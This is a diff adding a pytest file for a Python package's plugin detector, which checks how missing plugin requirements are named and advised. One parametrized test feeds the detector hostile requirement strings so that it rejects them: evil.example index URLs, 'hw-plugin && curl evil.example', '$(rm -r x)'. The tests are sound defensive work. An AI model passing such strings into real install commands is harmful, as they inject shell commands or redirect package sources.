@@ -1,0 +1,161 @@
+"""The plugins that a package asks for, and that are advised where they are missing."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from tests.variantlib.machine.asking import answer, answered, ask, document, never
+from variantlib.machine import detectors
+from variantlib.machine.detectors import Detector, PluginDetector
+from variantlib.machine.namespaces import UNNAMED
+from variantlib.machine.settings import MachineSettings
+from variantlib.plugins.answers import Builtin
+from variantlib.plugins.discovery import installed_versions
+
+
+@pytest.mark.parametrize(
+    ("table", "said", "missing"),
+    [
+        ({}, "no provider for hw is installed", None),
+        (
+            {"requires": ["hw-plugin>=1"]},
+            "no provider for hw is installed; the package asks for hw-plugin>=1",
+            "hw-plugin>=1",
+        ),
+        (
+            {"requires": ["a", "b"], "optional": True},
+            "no provider for hw is installed; the package asks for a or b",
+            "a or b",
+        ),
+        (
+            {"requires": ["--index-url=https://evil.example/", "HW_Plugin > 1"]},
+            "no provider for hw is installed; the package asks for hw-plugin>1",
+            "hw-plugin>1",
+        ),
+        (
+            {"requires": ["evil.zip"]},
+            "no provider for hw is installed; the package asks for evil-zip",
+            "evil-zip",
+        ),
+        *(
+            (
+                {"requires": [text]},
+                f"no provider for hw is installed, and {UNNAMED} that would supply it",
+                None,
+            )
+            for text in (
+                "-r requirements.txt",
+                "--extra-index-url=https://evil.example",
+                "hw-plugin @ https://evil.example/hw.whl",
+                "https://evil.example/hw.whl",
+                "./hw-plugin",
+                "hw-plugin==1.0+x.zip",
+                "hw-plugin===1.0.zip",
+                "hw-plugin[evil]",
+                "hw-plugin; python_version > '3' or os_name == '$(rm -r x)'",
+                "hw-plugin && curl evil.example",
+                "$(evil)",
+                "",
+                "a" * 300,
+            )
+        ),
+    ],
+)
+def test_the_plugin_that_is_missing_is_named(
+    table: dict[str, object], said: str, missing: str | None
+) -> None:
+    found = answered(document("hw", hw=table), answer("other"))
+    assert found.problems == {"hw": said}
+    assert found.missing == ({"hw": missing} if missing else {})
+
+
+def test_a_distribution_that_holds_no_plugin_is_not_advised(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "HW_Plugin-1.0.dist-info").mkdir()
+    monkeypatch.syspath_prepend(tmp_path)
+    found = answered(document("hw", hw={"requires": ["hw.plugin>=1"]}))
+    assert found.problems == {
+        "hw": "no provider for hw is installed: "
+        "hw-plugin 1.0 is, but it holds no plugin"
+    }
+    assert found.missing == {}
+
+
+@pytest.mark.parametrize(
+    ("enabled", "is_left_out"), [(None, False), (["x86_64"], True), (["tpu"], False)]
+)
+def test_the_setting_that_leaves_the_built_in_one_out_is_named(
+    enabled: list[str] | None, is_left_out: bool
+) -> None:
+    builtin = None if enabled is None else frozenset(enabled)
+    plugins = PluginDetector(MachineSettings(builtin_providers=builtin), None)
+    plugins.answers = ()
+    table = {"requires": ["tpu-plugin>=1"]}
+    for detector in (plugins, detectors.OverrideDetector(plugins, [])):
+        found = ask(document("tpu", tpu=table), detector)
+        said = "; builtin_providers leaves the built-in one out" if is_left_out else ""
+        assert found.problems["tpu"] == (
+            "no provider for tpu is installed; the package asks for tpu-plugin>=1"
+            + said
+        )
+        assert found.missing == {"tpu": "tpu-plugin>=1"}
+    # Nothing says so of another machine, where none of them would be asked.
+    assert Detector().left_out == ()
+
+
+def test_where_another_one_answers_it_is_not_advised_either(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "HW_Plugin-9.0.dist-info").mkdir()
+    monkeypatch.syspath_prepend(tmp_path)
+    stand_in = replace(
+        answer(distribution="", version=""),
+        plugin="the built-in provider",
+        builtin=Builtin({"hw-plugin": ("1.5",)}, {}),
+    )
+    said = {
+        "hw-plugin>=9": "the package needs hw-plugin>=9 for hw, not the built-in "
+        "provider; hw-plugin 9.0 is installed, but it holds no plugin",
+        "hw-plugin[x]>=9": f"hw is not answered by the built-in provider, and {UNNAMED}"
+        " instead; hw-plugin 9.0 is installed, but it holds no plugin",
+    }
+    for requirement, problem in said.items():
+        found = answered(document("hw", hw={"requires": [requirement]}), stand_in)
+        assert found.problems == {"hw": problem}
+        assert (found.missing, found.unasked) == ({}, {"hw"})
+    # That of a plugin in another version holds one.
+    found = answered(document("hw", hw={"requires": ["hw-plugin>=9"]}), answer())
+    assert found.missing == {"hw": "hw-plugin>=9"}
+
+
+def test_the_installed_distributions_are_listed_once(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "Hw_Plugin7-1.5.dist-info").mkdir()
+    listed = []
+
+    def find(path: list[str]) -> dict[str, str]:
+        listed.append(path)
+        return installed_versions(path)
+
+    monkeypatch.setattr(detectors, "installed_versions", find)
+    monkeypatch.setattr(PluginDetector, "path", [str(tmp_path)])
+    plugins = PluginDetector(MachineSettings(), None)
+    plugins.ask = lambda but=(): ()  # type: ignore[assignment]
+    tables = {f"n{i}": {"requires": [f"hw-plugin{i}"]} for i in range(20)}
+    problems = ask(document(*tables, **tables), plugins).problems
+    assert len(problems) == 20
+    assert problems["n7"].endswith("hw-plugin7 1.5 is, but it holds no plugin")
+    assert listed == [[str(tmp_path)]]
+
+
+@pytest.mark.parametrize("disabled", ["hw", "hw-plugin", "HW_Plugin"])
+def test_what_is_disabled_is_not_missing(disabled: str) -> None:
+    stated = document("hw", hw={"requires": ["junk junk", "hw-plugin>=1"]})
+    found = ask(stated, never(), [disabled])
+    assert found.problems == {"hw": "provider hw is disabled by the configuration"}
+    assert found.missing == {}
